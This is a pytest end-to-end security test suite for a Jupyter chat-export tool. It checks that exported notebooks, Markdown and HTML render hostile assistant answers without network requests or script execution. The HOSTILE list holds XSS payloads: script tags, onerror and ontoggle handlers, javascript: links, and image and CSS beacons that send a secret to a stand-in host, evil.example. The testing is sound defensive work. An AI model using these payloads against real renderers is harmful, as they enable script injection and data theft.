"""Exports opened where users open them (#12 finding 3): the ipynb in JupyterLab untrusted and then trusted, the
md in JupyterLab's Markdown Preview, the html page in Chromium. Every request that leaves loopback and every
JavaScript dialog is recorded (and the request aborted, so nothing leaves the machine): none may happen without a
click. The answers are hostile on purpose: the issue's own loads and scripts, plus a sample of the third-party
corpus (tests/data/xss-corpus); and one formula, which must still be typeset.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from mmchat_jupyter.export import export_chat
from mmchat_jupyter.types import ChatRecord, MessageRecord

from ..security.corpus import payloads
from .lab import LabServer

pytestmark = pytest.mark.e2e

T0 = "2024-05-01T09:30:00+00:00"
#: What the audit saw run or load from exports (remote image with a secret, media, script after "Trust").
HOSTILE = [
    "![chart](https://evil.example/img.png?secret=s3cr3t) and <img src=https://evil.example/raw.png?secret=s3cr3t>",
    "<video src=https://evil.example/v.mp4 autoplay></video><audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<script>alert('script ran')</script>",
    "<details open ontoggle=alert('ontoggle')><summary>x</summary></details>",
    "<img src=x onerror=alert('onerror')>",
    "<iframe src=https://evil.example/frame></iframe><link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/bg.png) }</style>",
    '<svg><image href="https://evil.example/svg.png"/></svg> <object data=https://evil.example/o></object>',
    "[click](javascript:alert('link')) <a href=javascript:alert('a')>a</a>",
]
FORMULA = "The area is $\\pi r^2$, and $$\\int_0^1 x^2\\,dx = \\tfrac13$$"


def _hostile_chat() -> ChatRecord:
    sample = [p.text for p in payloads()[::10]]  # every tenth payload: ~250, from every source
    messages = [MessageRecord(id="orphan", role="assistant", content=HOSTILE[0], created=T0)]
    for n, answer in enumerate([FORMULA, *HOSTILE, *sample]):
        messages.append(MessageRecord(id=f"q{n}", role="user", content=f"question {n}", created=T0))
        messages.append(MessageRecord(id=f"a{n}", role="assistant", content=answer, created=T0, provider="echo",
                                      model="echo-1"))
    return ChatRecord(id="c", name="hostile <img src=https://evil.example/name.png>", created=T0, updated=T0,
                      messages=messages, meta={})


class Watch:
    """Every request to a host other than loopback (aborted) and every dialog (dismissed) of a page."""

    def __init__(self, page: Any) -> None:
        self.remote: list[str] = []
        self.dialogs: list[str] = []
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.route("**/*", self._route)

    def _route(self, route: Any) -> None:
        host = urlsplit(route.request.url).hostname or ""
        if host in ("127.0.0.1", "localhost", "::1") or route.request.url.startswith(("data:", "blob:", "file:")):
            route.continue_()
        else:
            self.remote.append(route.request.url)
            route.abort()


def _settle(page: Any) -> None:
    """Let whatever the rendered outputs would load or run happen: network idle, then two animation frames."""
    page.wait_for_load_state("networkidle")
    page.evaluate("() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))")


def _open(page: Any, lab: LabServer, name: str) -> None:
    lab.close_sessions()
    page.goto(f"{lab.url}/lab/tree/{name}?reset&token={lab.token}")
    page.wait_for_selector(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output", timeout=90_000)
    page.wait_for_function(
        "(n) => document.querySelectorAll('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output').length >= n",
        arg=len(HOSTILE) + 1, timeout=60_000)
    _settle(page)


def _trusted(page: Any) -> list[bool]:
    return page.evaluate("""() => {
        const cells = window.jupyterapp.shell.currentWidget.content.model.cells;
        return Array.from({length: cells.length}, (_, i) => cells.get(i)).filter((c) => c.type === 'code'
            && c.outputs.length).map((c) => c.trusted);
    }""")


def _math_typeset(page: Any) -> bool:
    return page.evaluate("() => !!document.querySelector('.jp-OutputArea-output mjx-container, "
                         ".jp-OutputArea-output .MathJax, .jp-OutputArea-output .katex')")


def test_the_ipynb_export_untrusted_then_trusted(page: Any, lab: LabServer, shots: Path) -> None:
    path = Path(export_chat(_hostile_chat(), "ipynb", lab.root / "hostile-export.ipynb"))
    watch = Watch(page)
    _open(page, lab, path.name)
    assert not any(_trusted(page))
    assert (watch.remote, watch.dialogs) == ([], [])
    assert _math_typeset(page)
    page.screenshot(path=str(shots / "export-ipynb-untrusted.png"))

    # "Trust Notebook", as the server's own notary records it, then open it again: outputs render trusted.
    subprocess.run([sys.executable, "-m", "jupyter", "trust", str(path)], env=lab.env, check=True, capture_output=True)
    trusted = page.context.new_page()  # a fresh page: JupyterLab reads trust when it opens the notebook
    watch = Watch(trusted)
    _open(trusted, lab, path.name)
    assert all(_trusted(trusted)) and _trusted(trusted)
    assert (watch.remote, watch.dialogs) == ([], [])
    assert _math_typeset(trusted)
    trusted.screenshot(path=str(shots / "export-ipynb-trusted.png"))


def test_the_md_export_in_markdown_preview(page: Any, lab: LabServer, shots: Path) -> None:
    path = Path(export_chat(_hostile_chat(), "md", lab.root / "hostile-export.md"))
    watch = Watch(page)
    lab.close_sessions()
    page.goto(f"{lab.url}/lab?reset&token={lab.token}")
    page.wait_for_function("() => !!window.jupyterapp?.commands.hasCommand('markdownviewer:open')", timeout=90_000)
    page.evaluate("(path) => { window.jupyterapp.commands.execute('markdownviewer:open', {path}); }", path.name)
    page.wait_for_selector(".jp-MarkdownViewer .jp-RenderedMarkdown h3", timeout=60_000)
    _settle(page)
    text = page.inner_text(".jp-MarkdownViewer .jp-RenderedMarkdown")
    assert "question 3" in text and "<script>alert('script ran')</script>" in text  # shown, as text
    assert (watch.remote, watch.dialogs) == ([], [])
    page.screenshot(path=str(shots / "export-md-preview.png"))


def test_the_html_export_in_the_browser(page: Any, tmp_path: Path) -> None:
    path = Path(export_chat(_hostile_chat(), "html", tmp_path / "hostile.html"))
    watch = Watch(page)
    page.goto(path.as_uri())
    _settle(page)
    assert "question 3" in page.inner_text("main")
    assert (watch.remote, watch.dialogs) == ([], [])


def test_the_exported_notebook_holds_no_raw_markdown() -> None:
    """What the browser tests rely on, checked without one: every output carries sanitized HTML first."""
    notebook = json.loads(str(export_chat(_hostile_chat(), "ipynb")))
    outputs = [o for cell in notebook["cells"] for o in cell.get("outputs", ())]
    assert outputs and all({"text/html", "text/markdown", "text/plain"} <= o["data"].keys() for o in outputs)


def test_every_payload_rendered_in_chromium(_browser: Any) -> None:  # noqa: PT019 - the browser is used directly
    """The whole corpus as the faces show it (render_markdown's HTML set with innerHTML, one element each, as the
    panel and JupyterLab do), and as the md export's Markdown rendered by a CommonMark renderer: Chromium makes no
    request and opens no dialog."""
    from markdown_it import MarkdownIt

    from mmchat_jupyter.export.safe_markdown import safe_markdown
    from mmchat_jupyter.render import render_markdown

    markdown = MarkdownIt("commonmark", {"html": True}).enable("table")
    fragments = [render_markdown(p.text) for p in payloads()] + [markdown.render(safe_markdown(p.text))
                                                                 for p in payloads()]
    page = _browser.new_page()
    watch = Watch(page)
    page.set_content("<!DOCTYPE html><html><body><main></main></body></html>")
    page.evaluate("""(fragments) => {
        const main = document.querySelector('main');
        for (const html of fragments) { const div = document.createElement('div'); div.innerHTML = html;
                                        main.appendChild(div); }
    }""", fragments)
    _settle(page)
    page.mouse.move(5, 5)
    page.mouse.move(600, 400)  # hover handlers, if any survived, would fire now
    _settle(page)
    count = page.evaluate("() => document.querySelectorAll('main > div').length")
    page.close()
    assert count == len(fragments)
    assert (watch.remote, watch.dialogs) == ([], [])
